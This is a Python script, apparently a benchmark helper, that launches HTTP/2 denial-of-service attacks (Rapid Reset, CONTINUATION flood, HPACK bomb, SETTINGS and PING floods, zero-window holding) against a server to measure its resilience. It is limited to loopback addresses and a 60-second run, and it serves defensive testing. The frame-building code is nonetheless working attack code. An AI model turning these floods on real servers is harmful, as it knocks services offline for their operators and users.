#!/usr/bin/env python3
"""HTTP/2 attacks on one server, from one process, for bench/compare_h2.sh:
what a normal client sees while they run. Frames are made by hand (a 9-byte
header and the payload; HPACK without Huffman coding), cleartext h2 by prior
knowledge. 127.0.0.0/8 only; every attack stops by itself after --seconds
(at most 60), and opens, sends and holds no more than its bounds.

Usage: h2_attacks.py ATTACK HOST PORT [--seconds S] [--conns N] [--path P]
  ATTACK is one of:
  rapid-reset   CVE-2023-44487: HEADERS for a GET then RST_STREAM(CANCEL) at
                once, stream after stream, 100 pairs a write
  continuation  a HEADERS frame without END_HEADERS followed by CONTINUATION
                frames of 16 KB of header fields, never ending the block
                (CVE-2024-27316 and its kin)
  hpack-bomb    one 4 KB header field stored in the HPACK dynamic table,
                then header blocks of one-byte references to it: a 16 KB
                frame decodes to 64 MB
  settings-flood  SETTINGS frames without end, the ACKs never read
  ping-flood    PING frames without end, the ACKs never read
  zero-window   SETTINGS_INITIAL_WINDOW_SIZE 0, then 100 GETs of PATH on
                each connection, held: the server may send no DATA
  --seconds S   how long (10)
  --conns N     connections at once (10; zero-window: 100); one the server
                closes is replaced, no faster than 500 a second in all
  --path P      the path requested (/index.html; zero-window /file100k.bin)
Prints one line: ATTACK SECONDS_RUN CONNECTIONS CLOSED_BY_SERVER FRAMES MB_SENT
GOAWAYS(codes) RST_STREAMS."""
import ipaddress, selectors, socket, struct, sys, time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4
INITIAL_WINDOW_SIZE, MAX_FRAME = 0x4, 16384
OPEN_RATE = 500   # new connections a second, at most, after the first N
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
          6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
          11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, prefix, first=0):
    """RFC 7541 §5.1: VALUE with a PREFIX-bit prefix, FIRST's other bits set."""
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def hpack_str(s):
    return hpack_int(len(s), 7) + s   # a plain string, no Huffman coding


def literal(name, value, indexed=False):
    """A field with a new name: with incremental indexing (stored in the
    dynamic table) or without indexing."""
    return (b"\x40" if indexed else b"\x00") + hpack_str(name) + hpack_str(value)


def request(path):
    """:method GET, :scheme http (static table 2 and 6), :path and :authority
    as literals without indexing of the static names 4 and 1."""
    return b"\x82\x86" + hpack_int(4, 4) + hpack_str(path) + hpack_int(1, 4) + hpack_str(b"localhost")


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


class Attack:
    """One connection's attack: first() is sent after the preface, more()
    gives the next write (None: nothing more, the connection is held)."""
    reads = True   # drain the server's frames (else its ACKs pile up there)

    def __init__(self, path):
        self.path = path.encode()
        self.stream = 1
        self.frames = 0

    def first(self):
        self.frames += 1
        return settings()

    def next_stream(self):
        s = self.stream
        self.stream += 2
        return s

    def more(self):
        raise NotImplementedError


class RapidReset(Attack):
    def more(self):
        if self.stream > 2**31 - 400:
            return None
        out = []
        for _ in range(100):
            s = self.next_stream()
            out.append(frame(HEADERS, END_STREAM | END_HEADERS, s, request(self.path)))
            out.append(frame(RST_STREAM, 0, s, struct.pack(">I", 8)))   # CANCEL
        self.frames += 200
        return b"".join(out)


class Continuation(Attack):
    def __init__(self, path):
        super().__init__(path)
        self.n = 0

    def fields(self):
        """16 KB of header fields, each a new name."""
        out = b""
        while len(out) < MAX_FRAME - 200:
            self.n += 1
            out += literal(b"x-c%d" % self.n, b"v" * 100)
        return out

    def more(self):
        self.frames += 1
        if self.n == 0:
            return frame(HEADERS, END_STREAM, self.next_stream(), request(self.path) + self.fields())
        return frame(CONTINUATION, 0, 1, self.fields())


class HpackBomb(Attack):
    def more(self):
        s = self.next_stream()
        self.frames += 1
        if s == 1:
            # name + value + 32 = 4096: the whole default table.
            return frame(HEADERS, END_STREAM | END_HEADERS, s,
                         request(self.path) + literal(b"x-bomb", b"b" * 4058, indexed=True))
        if s > 2**31 - 400:
            return None
        # 0xbe: the first entry of the dynamic table (index 62), one byte.
        return frame(HEADERS, END_STREAM | END_HEADERS, s, request(self.path) + b"\xbe" * (MAX_FRAME - 100))


class SettingsFlood(Attack):
    reads = False

    def more(self):
        self.frames += 500
        return settings((INITIAL_WINDOW_SIZE, 65535)) * 500


class PingFlood(Attack):
    reads = False

    def more(self):
        self.frames += 500
        return b"".join(frame(PING, 0, 0, struct.pack(">Q", self.frames + i)) for i in range(500))


class ZeroWindow(Attack):
    def first(self):
        self.frames += 1
        return settings((INITIAL_WINDOW_SIZE, 0))

    def more(self):
        if self.stream > 1:
            return None   # held: the streams wait for credit that never comes
        self.frames += 100
        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, self.next_stream(), request(self.path))
                        for _ in range(100))


ATTACKS = {"rapid-reset": RapidReset, "continuation": Continuation, "hpack-bomb": HpackBomb,
           "settings-flood": SettingsFlood, "ping-flood": PingFlood, "zero-window": ZeroWindow}


class Conn:
    def __init__(self, sock, attack):
        self.sock, self.attack = sock, attack
        self.out = bytearray(PREFACE + attack.first())
        self.inbuf = bytearray()
        self.held = False


def main():
    args = sys.argv[1:]
    opts = {"--seconds": "10", "--conns": None, "--path": None}
    for o in list(opts):
        if o in args:
            i = args.index(o)
            opts[o] = args[i + 1]
            del args[i:i + 2]
    if len(args) != 3 or args[0] not in ATTACKS:
        sys.exit(__doc__)
    name, host, port = args[0], args[1], int(args[2])
    if not ipaddress.ip_address(host) in ipaddress.ip_network("127.0.0.0/8"):
        sys.exit("h2_attacks.py: loopback (127.0.0.0/8) only")
    seconds = min(float(opts["--seconds"]), 60.0)
    zero = name == "zero-window"
    want = min(int(opts["--conns"] or (100 if zero else 10)), 1000)
    path = opts["--path"] or ("/file100k.bin" if zero else "/index.html")
    kind = ATTACKS[name]

    sel = selectors.DefaultSelector()
    conns = set()
    stats = {"opened": 0, "closed": 0, "bytes": 0, "frames": 0, "rst": 0}
    goaways = {}
    start = time.monotonic()
    deadline = start + seconds

    def close(c, by_server):
        sel.unregister(c.sock)
        c.sock.close()
        conns.discard(c)
        stats["frames"] += c.attack.frames
        stats["closed"] += by_server

    def watch(c):
        mask = (selectors.EVENT_READ if c.attack.reads else 0) | (selectors.EVENT_WRITE if c.out or not c.held else 0)
        if mask:
            sel.modify(c.sock, mask, c)

    def parse(c):
        """Counts the server's GOAWAY (by error code) and RST_STREAM frames,
        acknowledges its SETTINGS."""
        buf = c.inbuf
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            if buf[3] == GOAWAY and length >= 8:
                # (Apache's mod_http2 has sent nghttp2's own negative error
                # numbers as codes: shown signed.)
                code = int.from_bytes(buf[13:17], "big", signed=True)
                code = ERRORS.get(code, str(code))
                goaways[code] = goaways.get(code, 0) + 1
            elif buf[3] == RST_STREAM:
                stats["rst"] += 1
            elif buf[3] == SETTINGS and not buf[4] & 1:
                c.out += frame(SETTINGS, 1, 0)   # the ACK a client owes
            del buf[:9 + length]

    while time.monotonic() < deadline:
        allowed = want + OPEN_RATE * (time.monotonic() - start)
        while len(conns) < want and stats["opened"] < allowed:
            stats["opened"] += 1
            try:
                s = socket.create_connection((host, port), timeout=2)
            except OSError:
                break
            s.setblocking(False)
            c = Conn(s, kind(path))
            conns.add(c)
            sel.register(s, selectors.EVENT_WRITE | (selectors.EVENT_READ if c.attack.reads else 0), c)
        for key, mask in sel.select(timeout=0.1):
            c = key.data
            if c not in conns:
                continue
            try:
                if mask & selectors.EVENT_READ:
                    data = c.sock.recv(262144)
                    if not data:
                        close(c, True)
                        continue
                    c.inbuf += data
                    parse(c)
                if mask & selectors.EVENT_WRITE and not c.out and not c.held:
                    more = c.attack.more()
                    if more is None:
                        c.held = True
                    else:
                        c.out += more
                if c.out:
                    n = c.sock.send(c.out)
                    stats["bytes"] += n
                    del c.out[:n]
                if c.held:
                    watch(c)
            except OSError:
                close(c, True)
    for c in list(conns):
        close(c, False)
    ran = time.monotonic() - start
    codes = ",".join(f"{k}:{v}" for k, v in sorted(goaways.items())) or "none"
    print(name, f"{ran:.1f}s", f"conns={stats['opened']}", f"closed_by_server={stats['closed']}",
          f"frames={stats['frames']}", f"sent_MB={stats['bytes'] / 1e6:.1f}", f"goaway={codes}",
          f"rst_stream={stats['rst']}")


if __name__ == "__main__":
    main()
